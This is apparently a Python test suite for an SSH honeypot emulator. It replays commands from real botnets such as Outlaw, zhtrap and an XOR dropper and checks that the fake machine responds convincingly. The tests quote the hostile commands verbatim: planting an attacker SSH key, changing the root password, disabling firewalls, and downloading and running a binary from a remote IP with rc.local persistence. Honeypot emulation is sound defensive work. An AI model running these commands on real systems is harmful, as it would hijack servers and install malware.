"""Bots that look for servers: Outlaw, zhtrap's honeypot test, Go scanners, XOR and BillGates droppers."""

from __future__ import annotations

import hashlib
import re

from tests.machine.loaders.dialogue import PAYLOAD, Visit

KEY = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDXdWgYyZ0nMmX mdrfckr"


def test_outlaw_by_exec_installs_its_key_and_changes_the_password() -> None:
    visit = Visit("debian-12", protocol="ssh")
    came = visit.exec("cd ~; chattr -ia .ssh; lockr -ia .ssh")
    assert re.search(r"lockr: command not found", came)
    came = visit.exec(
        f'cd ~ && rm -rf .ssh && mkdir .ssh && echo "{KEY}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~'
    )
    assert came == ""
    assert visit.machine.authorized_keys("root") == [KEY]
    cores = visit.exec("cat /proc/cpuinfo | grep name | wc -l")
    assert int(cores) == visit.persona.cpu.count
    assert "password" not in visit.exec('echo "root:aB3xQ9LmPz12"|chpasswd|bash')
    assert visit.machine.check_password("root", b"aB3xQ9LmPz12")
    visit.exec(
        "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny; "
        "pkill -9 sleep;"
    )
    assert visit.read("/etc/hosts.deny") == b"\n"
    numbers = visit.exec("free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'").split()
    assert len(numbers) == 6 and int(numbers[0]) > 200
    assert re.match(r"-rwxr-xr-x 1 root root 1\d\dK .* /usr/bin/ls\n$", visit.exec("ls -lh $(which ls)"))
    assert visit.exec("which ls") == "/usr/bin/ls\n"
    assert visit.exec("crontab -l") == "no crontab for root\n"
    assert "load average" in visit.exec("w")
    assert visit.exec("uname -m") == "x86_64\n"
    assert int(visit.exec("cat /proc/cpuinfo | grep model | grep name | wc -l")) == visit.persona.cpu.count
    assert visit.exec("top").strip() in ("TERM environment variable not set.", "top: failed tty get")
    assert visit.exec("uname") == "Linux\n"
    assert visit.exec("uname -a").startswith(f"Linux {visit.persona.hostname} ")
    assert visit.exec("whoami") == "root\n"
    assert visit.persona.cpu.model_name in visit.exec("lscpu | grep Model")
    assert re.match(r"\d+(\.\d)?[GM]\n", visit.exec("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'"))


def test_outlaw_on_a_terminal_changes_the_password_by_dialogue() -> None:
    visit = Visit("debian-12", protocol="ssh")
    talk = visit.terminal()
    talk.ask("passwd", r"New password: $")
    talk.ask("aB3xQ9LmPz12", r"Retype new password: $")
    talk.ask("aB3xQ9LmPz12", r"passwd: password updated successfully")
    assert "aB3xQ9LmPz12" not in talk.text
    assert visit.machine.check_password("root", b"aB3xQ9LmPz12")
    assert not visit.machine.check_password("root", b"another")


def test_passwd_with_its_answers_in_a_pipe_works() -> None:
    visit = Visit("debian-12", protocol="ssh")
    came = visit.exec(
        r'echo -e "123456\nXk2ByCCoXwx2\nXk2ByCCoXwx2"|passwd|bash; echo "123456\nX\nX\n"|passwd'
    )
    assert "command not found" not in came
    visit.exec(r'echo -e "Xk2ByCCoXwx2\nXk2ByCCoXwx2"|passwd')
    assert visit.machine.check_password("root", b"Xk2ByCCoXwx2")


def test_zhtrap_finds_no_sign_of_a_honeypot() -> None:
    for kind in ("debian-12", "busybox-arm"):
        visit = Visit(kind)  # type: ignore[arg-type]
        talk = visit.terminal()
        came = ""
        for line in ("enable", "linuxshell", "system", "bash", "ls /home", "ps aux", "/bin/busybox ZONESEC"):
            talk.send(line)
        came = talk.text
        for sign in (
            "Jun22",
            "Jun23",
            "phil",
            "richard",
            "@LocalHost:]",
            "Welcome to EmbyLinux 3.13.0-24-generic",
        ):
            assert sign not in came
        assert "ZONESEC: applet not found" in came
    came = Visit("debian-12", protocol="ssh").exec('if [ $(ls /home/) == "richard" ]; then echo GOTCHA; fi')
    assert "GOTCHA" not in came


def test_scanners_in_go_see_one_machine_by_every_way_of_asking() -> None:
    visit = Visit("debian-12", protocol="ssh")
    plain = visit.exec("uname -s -v -n -r -m")
    for other in (
        "/bin/./uname -s -v -n -r -m",
        "/usr/bin/uname -s -v -n -r -m",
        "busybox uname -s -v -n -r -m",
    ):
        assert visit.exec(other) == plain
    assert plain == visit.exec("uname -s -v -n -r -m 2> /dev/null")
    # with the space, the 2 is an operand: uname complains, as a real one does
    assert visit.exec("uname -s -v -n -r -m 2 > /dev/null").startswith("uname: extra operand")
    came = visit.exec(
        "/ip cloud print; ifconfig; uname -a; cat /proc/cpuinfo; ps | grep '[Mm]iner'; ps -ef | grep '[Mm]iner'; "
        "ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd; "
        "echo Hi | cat -n"
    )
    assert came.endswith("     1\tHi\n")
    assert "bash: line 1: /ip: No such file or directory" in came
    assert visit.persona.hostname in came and "inet " in came
    assert not re.search(r"(?i)miner", came.replace("[Mm]iner", ""))


def test_the_old_xor_dropper_downloads_and_puts_itself_into_rc_local() -> None:
    visit = Visit("debian-12", protocol="ssh", bodies={b"/x": PAYLOAD})
    visit.exec(
        "/etc/init.d/iptables stop;service iptables stop;SuSEfirewall2 stop;reSuSEfirewall2 stop;cd /tmp;"
        'wget -c http://198.51.100.9:8080/x;chmod 777 x;./x;echo "cd /tmp/">>/etc/rc.local;echo "./x&">>/etc/rc.local;'
        'echo "/etc/init.d/iptables stop">>/etc/rc.local'
    )
    assert visit.urls == [b"http://198.51.100.9:8080/x"]
    assert hashlib.sha256(visit.read("/tmp/x")).digest() == hashlib.sha256(PAYLOAD).digest()
    assert visit.read("/etc/rc.local").endswith(b"cd /tmp/\n./x&\n/etc/init.d/iptables stop\n")
